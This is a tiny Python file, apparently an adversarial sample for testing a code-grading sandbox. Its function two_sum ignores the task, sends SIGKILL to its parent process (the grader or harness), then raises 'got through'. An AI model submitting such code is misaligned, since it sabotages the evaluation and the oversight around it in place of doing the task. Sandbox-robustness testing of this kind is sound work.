# attack: signals
# lethal
import os
import signal


def two_sum(nums, target):
    os.kill(os.getppid(), signal.SIGKILL)
    raise RuntimeError("got through")
